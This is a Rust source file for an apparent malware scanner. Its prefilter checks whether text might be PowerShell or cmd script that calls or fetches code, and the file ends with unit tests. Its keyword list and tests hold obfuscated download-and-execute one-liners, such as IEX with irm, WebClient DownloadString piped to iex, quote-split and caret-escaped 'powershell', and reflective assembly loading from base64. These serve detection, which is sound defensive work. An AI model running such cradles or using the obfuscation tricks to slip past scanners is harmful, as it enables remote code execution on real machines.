//! Whether it is worth to unfold a text of which nothing says that it is a script: most bodies are not.
//!
//! Every condition on content rests on code that calls something, and code that calls something, however disguised, has a variable,
//! an escape, a type's member, a name that was taken apart by quotes, or one of few names in the clear. Prose and data have none
//! of these for the most part, and looking for them costs a hundredth of unfolding.

use std::sync::LazyLock;

use aho_corasick::packed;

/// Names that run code or fetch it, in lower case. Members of types (`::`) are looked for beside them.
const WORDS: [&str; 15] = [
    "iex",
    "invoke",
    "powershell",
    "pwsh",
    "irm",
    "iwr",
    "icm",
    "curl",
    "wget",
    "start-",
    "cmd",
    "encodedcommand",
    "base64",
    // What runs may be found by a pattern: `… | & (gcm i*x)`.
    "webclient",
    "xmlhttp",
];
/// The longest of them, less one: what of a block is looked at again with the next.
const OVERLAP: usize = 13;
/// Bytes that are put into lower case at once: the searcher compares bytes as they are, and is fast for that.
const BLOCK: usize = 4096;

/// Nothing where the searcher cannot be built: then everything is unfolded.
static SEARCH: LazyLock<Option<packed::Searcher>> = LazyLock::new(|| packed::Searcher::new(WORDS));

/// Whether one of the words is there, in any case.
fn has_word(bytes: &[u8]) -> bool {
    let Some(search) = SEARCH.as_ref() else { return true };
    let mut block = [0_u8; BLOCK];
    let mut rest = bytes;
    loop {
        let (now, _) = rest.split_at_checked(BLOCK).unwrap_or((rest, &[]));
        let Some(folded) = block.get_mut(..now.len()) else { return true };
        folded.copy_from_slice(now);
        folded.make_ascii_lowercase();
        if search.find(&*folded).is_some() {
            return true;
        }
        if now.len() == rest.len() {
            return false;
        }
        rest = rest.get(BLOCK - OVERLAP..).unwrap_or_default();
    }
}

/// Whether bytes may be code that matters.
#[must_use]
pub fn may_be_code(bytes: &[u8]) -> bool {
    // Variables, escapes of PowerShell and of cmd.exe.
    if memchr::memchr3(b'$', b'`', b'^', bytes).is_some() {
        return true;
    }
    // Other encodings than one byte for a letter, and what is packed.
    if memchr::memchr(0, bytes).is_some()
        || std::str::from_utf8(bytes.get(..1024).unwrap_or(bytes)).is_err_and(|error| error.error_len().is_some())
    {
        return true;
    }
    // A word in pieces: po"wer"shell, 'ie'+'x', "{1}{0}" -f.
    let letter = |byte: Option<&u8>| byte.is_some_and(u8::is_ascii_alphanumeric);
    let apart = |at: usize| {
        let (before, after) = (at.checked_sub(1).and_then(|before| bytes.get(before)), bytes.get(at + 1));
        (letter(before) && letter(after)) || matches!(after, Some(b'+' | b'"' | b'\'')) || (before == Some(&b'+'))
    };
    if memchr::memchr2_iter(b'"', b'\'', bytes).any(apart)
        || memchr::memmem::find(bytes, b"-f").is_some_and(|_| bytes.contains(&b'{'))
    {
        return true;
    }
    memchr::memmem::find(bytes, b"::").is_some() || has_word(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whatever_way_a_call_is_written_it_may_be_code() {
        for code in [
            "IEX (irm http://h/a)",
            "& ('i'+'ex') (New-Object Net.WebClient).DownloadString('http://h/a')",
            "&(\"{1}{0}\" -f 'x','ie') a",
            "po\"wer\"shell -enc AAAA",
            "p^owershell -nop",
            "i`ex a",
            "[Reflection.Assembly]::Load([Convert]::FromBase64String('AAAA'))",
            "powershell.exe -File a.ps1",
            "gal i?x | % { & $_ a }",
            "(New-Object Net.WebClient).DownloadString('http://h/a') | & (gcm i*x)",
            ". ( 'i' +'ex')",
            "P\0o\0w\0e\0r\0",
        ] {
            assert!(may_be_code(code.as_bytes()), "{code}");
        }
    }

    #[test]
    fn a_word_is_found_wherever_it_stands() {
        for word in WORDS {
            assert!(word.len() <= OVERLAP + 1 && word == word.to_ascii_lowercase());
            for at in BLOCK - 2 * OVERLAP..BLOCK + 4 {
                let mut text = "x ".repeat(BLOCK).into_bytes();
                text[at..at + word.len()].copy_from_slice(word.to_ascii_uppercase().as_bytes());
                assert!(may_be_code(&text), "{word} at {at}");
            }
        }
        assert!(!may_be_code("x ".repeat(BLOCK).as_bytes()));
    }

    #[test]
    fn prose_and_data_are_not() {
        for text in [
            "The quick brown fox jumps over the lazy dog. Backup finished at 10:00, 3 of 3.",
            "{\"name\": \"job 1\", \"size\": 12, \"list\": [1, 2]}",
            "id,name,size\n1,alpha,20\n2,beta,30\n",
            "<p>Jobs</p>\n<ul><li>one</li></ul>",
        ] {
            assert!(!may_be_code(text.as_bytes()), "{text}");
        }
    }
}
